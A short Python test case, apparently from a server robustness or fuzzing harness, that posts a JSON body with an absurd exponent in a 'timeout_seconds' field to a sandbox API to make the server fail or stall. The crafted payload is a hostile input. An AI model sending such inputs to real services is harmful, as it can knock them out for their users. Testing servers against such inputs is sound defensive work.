# aim: have the server fail, or think for long, about a body
# mechanism: a number with an exponent that no number has
# server: body
# plain: naive

def attack():
    body = b'{"timeout_seconds": 1e999999999}'
    ask("POST", "/v1/sandboxes", body, Content_Type="application/json")


judge(attack)
